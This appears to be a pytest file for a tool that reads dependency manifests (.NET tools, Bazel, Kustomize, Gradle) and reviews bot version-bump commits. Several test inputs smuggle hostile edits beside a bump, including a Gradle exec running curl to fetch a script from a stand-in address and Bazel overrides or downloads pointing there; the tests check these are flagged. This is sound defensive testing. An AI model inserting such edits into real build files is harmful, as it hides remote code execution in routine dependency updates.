"""Build files bots update that the first readers skipped, found among bot commits touching no file the delta
read (a survey of the benchmark repositories' history): .NET local tools, Bazel modules, Kustomize files and
Gradle scripts of any name. Real-shaped files, and the bot's commit through a real git repository."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from gitdiffs import commit_patch
from tables import each_case

from gatekeeper.deps import bazel, kustomize, nuget
from gatekeeper.deps.model import ManifestError
from gatekeeper.deps.sources import Delta, patch_delta, tree_delta
from tests.test_deps_more_ecosystems import bump_commits

DOTNET_TOOLS = {"version": 1, "isRoot": True, "tools": {
    "dotnet-ef": {"version": "8.0.11", "commands": ["dotnet-ef"], "rollForward": False},
    "meziantou.framework.nugetpackagevalidation.tool": {"version": "2.0.1",
                                                        "commands": ["meziantou.validate-nuget-package"]}}}

MODULE_BAZEL = '''\
"""Bazel module of the NDK example."""

module(
    name = "ndk_example",
    version = "0.1.0",
    compatibility_level = 1,
)

bazel_dep(name = "platforms", version = "0.0.11")
bazel_dep(name = "rules_cc", version = "0.0.9")  # C++ rules
bazel_dep(
    name = "rules_android_ndk",
    version = "0.1.3",
    max_compatibility_level = 2,
)
bazel_dep(name = "googletest", version = "1.15.2", dev_dependency = True, repo_name = "com_google_googletest")

# bazel_dep(name = "commented_out", version = "9.9.9")
'''

KUSTOMIZATION = """\
apiVersion: kustomize.config.k8s.io/v1beta1
kind: Kustomization
resources:
  - ../../base
images:
  - name: frontend
    newName: us-docker.pkg.dev/bank/frontend
    newTag: v0.6.7
  - name: postgres
    digest: sha256:2f8d32fe06cb851c5ca5f9f13243df3d63a87eab6af99a799c5c1ebc6dd7fbfa
  - name: renamed-only
    newName: registry.example.invalid/renamed
helmCharts:
  - name: redis
    repo: https://charts.bitnami.com/bitnami
    version: 20.6.2
    releaseName: cache
patches:
  - target:
      kind: Deployment
    patch: |-
      - op: add
        path: /spec/template/spec/containers/-
        value:
          name: cloud-sql-proxy
          image: gcr.io/cloudsql-docker/gce-proxy:1.37.10
"""

DEPENDENCIES_GRADLE = """\
/** Parses a version from a dependency declaration string */
static String versionOf(String dependencySpec) {
  return dependencySpec.split(':').last()
}

final Map<String, String> libraries = [
  // Dependabot will parse these dependencies.
  activeMQ            : 'org.apache.activemq:activemq-broker:6.1.6',
  springSecurity      : 'org.springframework.security:spring-security-config:6.5.0',
]

ext {
  deps = libraries
}
"""


def _bump(tmp_path: Path, files: dict[str, str], edits: dict[str, tuple[str, str]]) -> tuple[Delta, Delta]:
    """The tree delta and the patch delta of a bot's commit replacing each `old` by `new`."""
    repo, base, head = bump_commits(tmp_path, files, edits)
    with repo.objects() as git:
        tree = tree_delta(git, base, head)
    return tree, patch_delta(None, io.BytesIO(commit_patch(repo, base, head, "--binary")))


def test_dotnet_local_tools() -> None:
    deps = {(d.name, d.version, d.scope) for d in nuget.parse_dotnet_tools(
        ".config/dotnet-tools.json", json.dumps(DOTNET_TOOLS).encode())}
    assert deps == {("dotnet-ef", "8.0.11", "build"),
                    ("meziantou.framework.nugetpackagevalidation.tool", "2.0.1", "build")}


def test_dependabot_dotnet_tool_bump(tmp_path: Path) -> None:
    body = json.dumps(DOTNET_TOOLS, indent=2) + "\n"
    tree, patch = _bump(tmp_path, {".config/dotnet-tools.json": body},
                        {".config/dotnet-tools.json": ('"version": "2.0.1"', '"version": "2.0.2"')})
    assert [(c.name, c.from_version, c.to_version, c.change) for c in tree.changes] == [
        ("meziantou.framework.nugetpackagevalidation.tool", "2.0.1", "2.0.2", "upgraded")]
    # The tool's key and its version sit on neighbouring lines the hunk shows: read from the patch too
    assert not patch.problems and [(c.name, c.from_version, c.to_version, c.partial) for c in patch.changes] == [
        ("meziantou.framework.nugetpackagevalidation.tool", "2.0.1", "2.0.2", True)]


def test_module_bazel_bazel_deps() -> None:
    deps = {(d.name, d.version, d.scope) for d in bazel.parse_module_bazel("MODULE.bazel", MODULE_BAZEL.encode())}
    assert deps == {("platforms", "0.0.11", "runtime"), ("rules_cc", "0.0.9", "runtime"),
                    ("rules_android_ndk", "0.1.3", "runtime"), ("googletest", "1.15.2", "dev")}


def test_renovate_bazel_module_bump(tmp_path: Path) -> None:
    tree, _ = _bump(tmp_path, {"android/ndk/MODULE.bazel": MODULE_BAZEL}, {"android/ndk/MODULE.bazel": (
        'bazel_dep(name = "rules_cc", version = "0.0.9")', 'bazel_dep(name = "rules_cc", version = "0.2.20")')})
    assert [(c.ecosystem, c.name, c.to_version, c.change, c.level) for c in tree.changes] == [
        ("bazel", "rules_cc", "0.2.20", "upgraded", "minor")]


def test_a_bazel_override_change_is_a_problem(tmp_path: Path) -> None:
    body = MODULE_BAZEL + 'git_override(module_name = "rules_cc", remote = "https://github.com/bazelbuild/rules_cc")\n'
    tree, _ = _bump(tmp_path, {"MODULE.bazel": body}, {"MODULE.bazel": (
        "https://github.com/bazelbuild/rules_cc", "https://127.0.0.1:9/rules_cc")})
    assert not tree.changes
    assert [(p.manifest, p.kind) for p in tree.problems] == [("MODULE.bazel", "partial")]


@pytest.mark.parametrize("beside", [
    'x = 1; bazel_dep(name = "evil", version = "1.0")',  # a second statement on a line
    'x = 1; git_override(module_name = "rules_cc", remote = "https://127.0.0.1:9/rules_cc")',
    'http_archive = use_repo_rule("@bazel_tools//tools/build_defs/repo:http.bzl", "http_archive")\n'
    'http_archive(name = "evil", urls = ["https://127.0.0.1:9/evil.tar.gz"])',  # a download the delta does not read
])
def test_a_bazel_edit_beside_a_bump_does_not_ride_on_it(tmp_path: Path, beside: str) -> None:
    """MODULE.bazel is a program: anything beyond the bazel_dep calls and versions it reads is reviewed, never
    explained by the ordinary bump made beside it."""
    old = 'bazel_dep(name = "rules_cc", version = "0.0.9")'
    new = f'bazel_dep(name = "rules_cc", version = "0.0.10")\n{beside}'
    tree, _ = _bump(tmp_path, {"MODULE.bazel": MODULE_BAZEL}, {"MODULE.bazel": (old, new)})
    assert [(p.manifest, p.kind) for p in tree.problems] == [("MODULE.bazel", "partial")]


@each_case("call", [
    'bazel_dep(name = RULES_CC, version = "1.0")',  # a variable, not a literal
    'bazel_dep(name = "x", version = "1" + "0")',
    'bazel_dep(version = "1.0")',
])
def test_bazel_dep_that_is_not_literal_is_a_problem(call: str) -> None:
    with pytest.raises(ManifestError):
        bazel.parse_module_bazel("MODULE.bazel", f"{call}\n".encode())


def test_kustomization_images_charts_and_patch_images() -> None:
    deps = {(d.ecosystem, d.name, d.version) for d in kustomize.parse_kustomization(
        "overlays/prod/kustomization.yaml", KUSTOMIZATION.encode())}
    assert deps == {
        ("docker", "us-docker.pkg.dev/bank/frontend", "v0.6.7"),
        ("docker", "postgres", "@sha256:2f8d32fe06cb851c5ca5f9f13243df3d63a87eab6af99a799c5c1ebc6dd7fbfa"),
        ("helm", "redis", "20.6.2"),
        ("docker", "gcr.io/cloudsql-docker/gce-proxy", "1.37.10"),
    }


def test_renovate_kustomize_tag_bump(tmp_path: Path) -> None:
    tree, patch = _bump(tmp_path, {"k8s/kustomization.yaml": KUSTOMIZATION}, {"k8s/kustomization.yaml": (
        "gce-proxy:1.37.10", "gce-proxy:1.37.11")})
    assert [(c.name, c.to_version, c.change, c.level) for c in tree.changes] == [
        ("gcr.io/cloudsql-docker/gce-proxy", "1.37.11", "upgraded", "patch")]
    # an `image:` line stands alone: read from the patch too
    assert not patch.problems and [(c.name, c.to_version, c.change, c.partial) for c in patch.changes] == [
        ("gcr.io/cloudsql-docker/gce-proxy", "1.37.11", "upgraded", True)]


@each_case("body", ["images: {frontend: v1}\n", "images:\n  - frontend:v1\n", "images: [\n"])
def test_malformed_kustomization_is_a_problem(body: str) -> None:
    with pytest.raises(ManifestError):
        kustomize.parse_kustomization("kustomization.yaml", body.encode())


def test_a_gradle_script_of_any_name_is_read(tmp_path: Path) -> None:
    tree, _ = _bump(tmp_path, {"dependencies.gradle": DEPENDENCIES_GRADLE}, {"dependencies.gradle": (
        "spring-security-config:6.5.0", "spring-security-config:6.5.1")})
    assert [(c.name, c.to_version, c.change) for c in tree.changes] == [
        ("org.springframework.security:spring-security-config", "6.5.1", "upgraded")]


def test_a_gradle_scripts_other_edit_beside_a_bump_is_a_problem(tmp_path: Path) -> None:
    """A script is a program: a task slipped in beside a version move must not ride on the bump."""
    tree, _ = _bump(tmp_path, {"gradle/deps.gradle.kts": DEPENDENCIES_GRADLE}, {"gradle/deps.gradle.kts": (
        "  springSecurity      : 'org.springframework.security:spring-security-config:6.5.0',\n",
        "  springSecurity      : 'org.springframework.security:spring-security-config:6.5.1',\n"
        "]\nexec { commandLine 'curl', 'https://127.0.0.1:9/x.sh' }\n[\n")})
    assert [(p.manifest, p.kind) for p in tree.problems] == [("gradle/deps.gradle.kts", "partial")]


def test_module_bazel_maven_artifacts(tmp_path: Path) -> None:
    body = MODULE_BAZEL + ('\nmaven = use_extension("@rules_jvm_external//:extensions.bzl", "maven")\nmaven.install(\n'
                           '    artifacts = [\n        "androidx.compose.ui:ui-tooling:1.2.1",\n'
                           '        "androidx.core:core:1.9.0",\n    ],\n)\n')
    tree, _ = _bump(tmp_path, {"MODULE.bazel": body}, {"MODULE.bazel": ("ui-tooling:1.2.1", "ui-tooling:1.11.3")})
    assert [(c.ecosystem, c.name, c.from_version, c.to_version, c.change) for c in tree.changes] == [
        ("maven", "androidx.compose.ui:ui-tooling", "1.2.1", "1.11.3", "upgraded")]
